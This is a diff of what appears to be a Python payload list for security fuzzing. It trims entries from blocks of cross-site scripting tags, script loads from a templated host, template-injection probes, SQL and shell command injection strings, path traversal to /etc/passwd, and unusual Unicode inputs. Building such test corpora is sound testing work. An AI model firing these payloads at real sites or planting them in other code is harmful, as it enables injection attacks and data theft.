@@ -16,7 +16,6 @@ _TAGS = """
 <script src=//{o}/@></script>
 <script type=module>import '//{o}/@'</script>
 <ScRiPt>alert('@')</sCrIpT>
-<script\t>alert('@')</script\t>
 <script/x>alert('@')</script>
 <<script>alert('@')//<</script>
 <scr<script>ipt>alert('@')</scr</script>ipt>
@@ -31,11 +30,9 @@ _TAGS = """
 <object data=//{o}/@></object>
 <object data="data:text/html,<script>alert('@')</script>">
 <embed src=//{o}/@>
-<applet code=@></applet>
 <frameset onload=alert('@')>
 <base href=//{o}/@/>
 <link rel=stylesheet href=//{o}/@>
-<link rel=prefetch href=//{o}/@>
 <link rel=dns-prefetch href=//@.{o}>
 <link rel=modulepreload href=//{o}/@>
 <meta http-equiv=refresh content="0;url=//{o}/@">
@@ -44,13 +41,10 @@ _TAGS = """
 <form id=@ onformdata=alert('@')><button>
 <input autofocus onfocus=alert('@')>
 <input type=image src=//{o}/@>
-<isindex action=javascript:alert('@') type=image>
 <button formaction=javascript:alert('@')>@</button>
 <select autofocus onfocus=alert('@')>
 <textarea autofocus onfocus=alert('@')>
-<keygen autofocus onfocus=alert('@')>
 <marquee onstart=alert('@')>@
-<bgsound src=//{o}/@>
 <table background=//{o}/@>
 <body background=//{o}/@ onload=alert('@')>
 <style>@import '//{o}/@';</style>
@@ -65,8 +59,6 @@ _TAGS = """
 <!-- --!><img src=x onerror=alert('@')>
 <![CDATA[<img src=x onerror=alert('@')>]]>
 <?xml version="1.0"?><x onload=alert('@')>
-<?php echo '@'; ?>
-<% alert('@') %>
 <custom-@ is=@></custom-@>
 """
 _ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "a href=#", "details open", "div tabindex=1")
@@ -155,13 +147,11 @@ data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+@
 data:image/svg+xml,<svg onload=alert('@')>
 blob:https://{o}/@
 filesystem:https://{o}/@
-view-source:javascript:alert('@')
 //{o}/@
 \\\\{o}\\@
 https://{o}/@
 https://{o}\\@@{o}/@
 http://user:@@{o}/
-ftp://{o}/@
 file:///etc/@
 mailto:@@{o}
 tel:+1;@
@@ -188,8 +178,6 @@ _TEMPLATES = """
 ${{7*7}}@
 #{{7*7}}@
 <%= 7*7 %>@
-*{{@}}
-[[@]]
 @{{@}}
 {{%raw%}}@{{%endraw%}}
 {{name, select, other {{@}}}}
@@ -212,11 +200,8 @@ hasOwnProperty @
 null @
 undefined @
 NaN @
--Infinity @
-true @
 [object Object] @
 1e400 @
-0x7fffffff @
 9007199254740993 @
 "}}],"@":[{{"
 \\"@\\"
@@ -231,12 +216,9 @@ true @
 '; DROP TABLE entries; --@
 1 OR 1=1 --@
 $(touch /tmp/@)
-`id`@
-; ls | @
 ../../../../etc/passwd@
 C:\\Windows\\@
 \\\\?\\C:\\@
-CON.@
 .@
 @.jpg.exe
 @.svg
@@ -279,8 +261,6 @@ Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f@
 \ufdfd@
 \u2028@\u2029
 \u0085@
-\u3164@
-\u180e@
 \ufff9@\ufffb
 \ufffd@
 """
